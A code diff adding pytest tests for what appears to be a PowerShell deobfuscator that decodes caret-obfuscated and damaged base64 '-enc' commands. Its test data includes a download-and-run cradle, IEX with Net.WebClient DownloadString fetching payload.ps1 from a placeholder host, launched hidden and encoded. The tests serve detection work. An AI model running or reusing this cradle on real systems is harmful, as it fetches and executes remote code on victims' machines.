@@ -293,3 +293,45 @@ def test_carets_in_a_cmd_launched_powershell_name():
     assert deobfuscate("echo p^owe^rshell").layers == []  # not launched by cmd /c
     r = deobfuscate('cmd /c p^owe^rshell -nop -c "Get-Date"')
     assert r.final == "Get-Date" and r.techniques == {"carets"}
+
+
+LONG = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/payload.ps1')"
+
+
+def test_damaged_base64_junk_after_the_value():
+    """A macro's `",NULL,NULL);` or a literal `\\xc3` after the value: read up to it."""
+    for junk in ('",NULL,NULL);', "\\xc3\\xa9r"):
+        r = deobfuscate(f"powershell -w hidden -enc {enc(LONG)}{junk}")
+        assert r.layers[0].text == LONG and r.reason.startswith("base64 damaged"), (junk, r.layers[0].text)
+
+
+def test_damaged_base64_resynchronised():
+    """A character lost mid-stream shifts all after it; each text run is read in its own alignment."""
+    value = enc(LONG)
+    cut = value[:40] + value[41:]  # one character gone: the rest is off by 6 bits
+    r = deobfuscate(f"powershell -enc {cut}")
+    # the space whose bits the lost character held is gone, the rest is all there
+    assert r.layers[0].text == LONG.replace("Object Net", "ObjectNet")
+    assert r.reason.startswith("base64 damaged")
+    # junk before the payload, a byte off: skipped, not decoded into noise
+    r = deobfuscate("powershell -enc 1hdioweuzvisk78elopadjur" + value[2:])
+    assert LONG[2:] in r.layers[0].text and r.reason.startswith("base64 damaged")
+
+
+def test_base64_of_utf8_and_a_cut_last_character():
+    utf8 = base64.b64encode(LONG.encode()).decode()
+    r = deobfuscate(f"powershell -enc {utf8}")
+    assert r.layers[0].text == LONG and r.reason == "base64 of UTF-8, not UTF-16LE"
+    odd = base64.b64encode(LONG.encode("utf-16-le")[:-1]).decode()  # the last ')' lost its zero byte
+    assert deobfuscate(f"powershell -enc {odd}").layers[0].text == LONG
+
+
+def test_no_space_after_powershell_exe():
+    r = deobfuscate(f"powershell.exe-window hidden -enc {enc(GOAL)}")
+    assert r.final == GOAL and r.layers[0].technique == "encodedcommand"
+
+
+def test_noise_is_not_read_as_text():
+    """No text in the bytes: the strict decode stays (nothing is made up), no lenient runs."""
+    r = deobfuscate("powershell -enc BBBBAAAAAAAAAAAAAAAACCCCCCCCCCCCCCCC")
+    assert r.layers and not (r.reason or "").startswith("base64 damaged")
